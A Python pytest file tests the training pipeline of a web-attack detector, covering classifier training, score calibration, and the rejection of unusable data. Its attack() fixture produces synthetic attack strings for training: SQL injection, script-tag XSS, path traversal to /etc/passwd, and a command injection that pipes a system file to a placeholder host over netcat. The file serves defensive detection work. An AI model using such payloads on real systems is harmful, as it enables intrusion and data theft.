"""Training end to end on small data, calibration, and data that can't be used."""
from __future__ import annotations

import csv
import gzip
import json
import random
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra import numpy as hnp

from native.models import LIMITS, Models
from native.text import TextHost
from sidecar import simulate
from sidecar.bundle import ANCHORS, load_bundle
from sidecar.commands.train import command
from sidecar.records import JsonLinesWriter
from sidecar.train import behaviour, calibrate, pipeline, trees
from sidecar.train.calibrate import BenignSource, CalibrationError
from sidecar.train.pipeline import Plan, TrainingError, train

WORDS = ["red", "blue", "shoes", "summer", "dress", "garden", "table", "lamp", "price", "order", "invoice", "street",
         "music", "holiday"]


def quiet(stage: str, share: float) -> None:
    assert 0.0 <= share <= 1.0


def benign(rng: random.Random, site: int) -> dict:
    words = [rng.choice(WORDS) for _ in range(3)]
    return {"method": "GET", "url": f"/shop{site}/{words[0]}?q={words[1]}+{words[2]}&page={rng.randrange(50)}",
            "headers": {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": "text/html"}, "label": 0,
            "meta": {"site": f"site-{site}"}}


def attack(rng: random.Random, kind: int) -> dict:
    # repeats that differ in numbers only would be dropped
    n, table, other = rng.randrange(1000), rng.choice(WORDS), rng.choice(WORDS)
    text = [f"{n}' UNION SELECT {table}, {n} FROM {other} -- ", f"<script>alert({n})</script><img src={table}{other}>",
            f"../../../../{table}/{other}/etc/passwd", f"; cat /etc/{table}{n} | nc {other}.test {n}"][kind]
    return {"payload": text, "src": "test", "cls": "x", "file": f"list-{kind}-{n % 3}"}


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path]:
    rng = random.Random(5)
    folder = tmp_path_factory.mktemp("data")
    out = {name: folder / name for name in ("shop.jsonl.gz", "attacks.jsonl", "log.jsonl", "params.csv")}
    with gzip.open(out["shop.jsonl.gz"], "wt") as f:
        f.writelines(json.dumps(benign(rng, i % 9)) + "\n" for i in range(1500))
    out["attacks.jsonl"].write_text("".join(json.dumps(attack(rng, i % 4)) + "\n" for i in range(800)))
    with out["params.csv"].open("w", newline="") as f:
        rows = csv.writer(f)
        rows.writerow(["payload", "length", "attack_type", "label"])
        for i in range(400):
            text = " ".join(rng.choice(WORDS) for _ in range(4)) if i % 2 else attack(rng, 0)["payload"]
            rows.writerow([text, len(text), "norm" if i % 2 else "sqli", "norm" if i % 2 else "anom"])
    with JsonLinesWriter(str(out["log.jsonl"])) as writer:
        scenario = simulate.Scenario(users=20, hours=3, seed=1, start_hour=12,
                                     attacks=(simulate.Attack("brute_force", "fast"),))
        for record in simulate.simulate(scenario):
            writer.write(record)
    return out


@pytest.fixture(scope="module")
def outcome(files, tmp_path_factory):
    folder = tmp_path_factory.mktemp("out")
    plan = Plan(out=folder / "bundle", data=[files["shop.jsonl.gz"], files["attacks.jsonl"], files["params.csv"]],
                behaviour=[files["log.jsonl"]], folds=2, grammar_texts=2000, cache=folder / "cache", seed=3,
                licences={"shop.jsonl.gz": "CC0"})
    return train(plan, quiet)


def test_a_bundle_comes_out_that_the_data_plane_takes(outcome):
    assert load_bundle(outcome.bundle.path) == outcome.bundle
    with Models(outcome.runtime) as models:
        assert models.has_text
        assert models.generation == outcome.bundle.generation
        assert models.features("isolation") == len(outcome.bundle.manifest.behaviour.features)


def test_it_tells_attacks_from_benign_requests_that_it_has_not_seen(outcome):
    rng = random.Random(99)
    host = TextHost(outcome.bundle.files["linear.bin"])
    with Models(outcome.runtime) as models:
        def scores(records: list[dict]) -> np.ndarray:
            features, linear = host.score_all(records)
            raw = models.predict("xgboost", features), models.predict("forest", features)
            return np.array([models.text_score(*row) for row in zip(linear, *raw, strict=True)])

        good = [benign(rng, 77) for _ in range(300)]
        bad = [{**benign(rng, 77), "url": f"/x?q={attack(rng, i % 4)['payload']}"} for i in range(200)]
        assert (scores(good) >= 0.9).mean() <= 0.01
        assert (scores(bad) >= 0.5).mean() >= 0.9


def test_the_manifest_says_what_it_was_made_from(outcome):
    m = outcome.bundle.manifest
    sources = {(s.name, s.side): s for s in m.training}
    shop = sources["shop.jsonl.gz", "text"]
    assert (shop.benign, shop.attack, shop.licence) == (1500, 0, "CC0")
    assert len(shop.sha256) == 64
    assert sources["attacks.jsonl", "text"].licence == "not stated"
    assert sources["attack_grammar", "text"].attack > 0
    log = sources["log.jsonl", "behaviour"]
    assert log.benign > 100
    assert log.attack > 10
    assert [(t.score, t.benign_fpr) for t in m.thresholds] == [(score, rate) for rate, score in ANCHORS]
    assert {row["slice"] for row in m.metrics["text"]} >= {"shop", "attacks: x"}


def test_the_report_has_its_plots_and_escapes_names(outcome):
    page = outcome.report.read_text()
    for name in ("text-scores.png", "text-roc.png", "importance.png", "behaviour-scores.png"):
        assert name in page
        assert (outcome.report.parent / name).read_bytes().startswith(b"\x89PNG")
    assert "<script" not in page


def test_the_same_seed_gives_the_same_models(files, tmp_path):
    plans = [Plan(out=tmp_path / str(i), data=[files["shop.jsonl.gz"], files["attacks.jsonl"]], folds=2,
                  grammar_texts=500, cache=tmp_path / "cache", seed=1, jobs=1) for i in range(2)]
    first, second = (train(plan, quiet).bundle for plan in plans)
    assert first.files == second.files
    assert first.manifest.behaviour is None


def test_one_side_alone_makes_a_bundle_too(files, tmp_path):
    only = train(Plan(out=tmp_path / "b", behaviour=[files["log.jsonl"]], cache=tmp_path / "cache"), quiet)
    with Models(only.runtime) as models:
        assert not models.has_text
        assert models.features("xgboost") == 0
        assert np.isnan(models.predict("xgboost", np.zeros((1, 48), np.float32))).all()
        assert models.text_score(5.0) == 0.0


# ---------------------------------------------------------------- data that can't be used

@pytest.mark.parametrize(("content", "says"), [
    (b"", "empty"),
    (b"\x00\xff\x1f\x8b garbage \n\x00", "cannot read"),
    (b'{"neither": "request", "nor": "payload"}\n', "unknown format"),
    (b"[1, 2]\n", "cannot read"),
    (b'{"method": "GET", "url": "/", "label": 0}\n', "needs at least"),
    (b'{"payload": "x", "cls": "y"}\n', "cannot read"),
])
def test_unusable_text_data_is_refused_with_a_reason(tmp_path, content, says):
    path = tmp_path / "data.jsonl"
    path.write_bytes(content)
    with pytest.raises(TrainingError, match=says):
        train(Plan(out=tmp_path / "b", data=[path], grammar_texts=100), quiet)
    assert not (tmp_path / "b").exists()


def test_a_broken_archive_is_refused(tmp_path, files):
    path = tmp_path / "cut.jsonl.gz"
    path.write_bytes(files["shop.jsonl.gz"].read_bytes()[:2000])
    with pytest.raises(TrainingError, match="cannot read"):
        train(Plan(out=tmp_path / "b", data=[path]), quiet)


def test_one_class_is_not_enough(files, tmp_path):
    for name in ("shop.jsonl.gz", "attacks.jsonl"):
        with pytest.raises(TrainingError, match="at least 60 attack values and 100 benign"):
            train(Plan(out=tmp_path / "b", data=[files[name]], grammar_texts=1000), quiet)


def test_all_problems_with_files_are_told_at_once(tmp_path):
    (tmp_path / "empty.jsonl").write_bytes(b"")
    with pytest.raises(TrainingError, match=r"no such file.*empty\.jsonl: empty"):
        train(Plan(out=tmp_path / "b", data=[tmp_path / "none.jsonl", tmp_path / "empty.jsonl"]), quiet)


def test_behaviour_needs_times_and_clients(files, tmp_path):
    with pytest.raises(TrainingError, match="with a time and a client"):
        train(Plan(out=tmp_path / "b", behaviour=[files["shop.jsonl.gz"]]), quiet)
    (tmp_path / "noise.log").write_bytes(b"\x00\x01 nothing like a log\n" * 50)
    with pytest.raises(TrainingError):
        train(Plan(out=tmp_path / "b", behaviour=[tmp_path / "noise.log"]), quiet)


def test_the_command_says_why_with_status_1(tmp_path):
    run = CliRunner().invoke
    refused = run(command, ["--data", str(tmp_path / "none"), "--out", str(tmp_path / "b")])
    assert refused.exit_code == 1
    assert "no such file" in refused.stderr
    missing = run(command, ["--default-data", str(tmp_path), "--out", str(tmp_path / "b")])
    assert missing.exit_code == 1
    assert "wcp_benign.jsonl.gz" in missing.stderr
    assert run(command, ["--out", str(tmp_path / "b")]).exit_code == 2


def test_something_else_in_the_way_is_kept(files, tmp_path):
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "letter.txt").write_text("dear")
    result = CliRunner().invoke(command, ["--behaviour-data", str(files["log.jsonl"]), "--out", str(tmp_path / "b")])
    assert result.exit_code == 1
    assert "is no bundle" in result.stderr
    assert (tmp_path / "b" / "letter.txt").read_text() == "dear"


# ---------------------------------------------------------------- calibration

raws = hnp.arrays(np.float64, st.integers(60, 400), elements=st.floats(-50, 50))


@given(st.lists(raws, min_size=1, max_size=4))
@settings(max_examples=100, deadline=None)
def test_knots_always_rise_and_fit_the_runtime_file(parts):
    pairs = calibrate.knots([BenignSource(str(i), raw) for i, raw in enumerate(parts)])
    x = np.array([a for a, _ in pairs], np.float32)
    y = np.array([b for _, b in pairs])
    assert len(pairs) <= LIMITS["knots"]
    assert (np.diff(x) > 0).all()
    assert (np.diff(y) >= 0).all()
    assert y[0] == 0.0
    assert y[-1] <= 1.0


def test_scores_keep_their_promise_in_every_source():
    rng = np.random.default_rng(0)
    easy, hard = rng.normal(0, 1, 50_000), rng.normal(3, 2, 20_000)
    pairs = calibrate.knots([BenignSource("easy", easy), BenignSource("hard", hard)])
    for rate, score in ANCHORS:
        assert (calibrate.apply(pairs, easy) > score).mean() <= rate * 1.05
        assert (calibrate.apply(pairs, hard) > score).mean() == pytest.approx(rate, rel=0.15, abs=1 / 20_000)


def test_one_repeated_value_does_not_set_the_threshold():
    rng = np.random.default_rng(0)
    raw = np.concatenate([rng.normal(0, 1, 20_000), np.full(200, 40.0)])
    assert calibrate.upper_quantile(raw, 0.001) < 6


def test_a_tolerated_source_may_exceed_its_rate_but_not_more():
    raw = np.random.default_rng(0).normal(0, 1, 100_000)
    strict = calibrate.threshold([BenignSource("a", raw)], 0.001)
    loose = calibrate.threshold([BenignSource("a", raw, tolerance=10)], 0.001)
    assert (raw > strict).mean() == pytest.approx(0.001, rel=0.1)
    assert (raw > loose).mean() == pytest.approx(0.01, rel=0.1)


def test_too_little_or_broken_benign_data_cannot_be_calibrated_on():
    with pytest.raises(CalibrationError, match="fewer than"):
        calibrate.knots([BenignSource("a", np.zeros(10))])
    with pytest.raises(CalibrationError, match="not finite"):
        calibrate.knots([BenignSource("a", np.full(100, np.nan))])


def test_the_isolation_forest_alone_never_refuses(outcome):
    assert max(y for _, y in outcome.bundle.manifest.calibration["behaviour"].knots) <= behaviour.CEILING < 0.8


def test_the_default_sources_are_licensed_and_named():
    wanted = json.loads(pipeline.SOURCES.read_text())
    assert all(licence for side in ("text", "behaviour") for licence in wanted[side].values())
    assert not any("gotestwaf" in name or "csic" in name for name in wanted["text"])
    assert [simulate.Scenario(**entry) for entry in wanted["simulate"]]


def test_xgboost_never_falls_with_the_linear_score():
    rng = np.random.default_rng(1)
    rows = rng.normal(size=(3000, 5)).astype(np.float32)
    labels = (rows[:, 0] + rows[:, 1] + rng.normal(size=3000) > 0).astype(np.int64)
    model = trees.train(rows, labels, np.ones(3000), seed=0, jobs=1)
    line = np.tile(rows[0], (200, 1))
    line[:, 0] = np.linspace(-4, 4, 200)
    assert (np.diff(trees.margin(model.xgboost, line)) >= -1e-6).all()
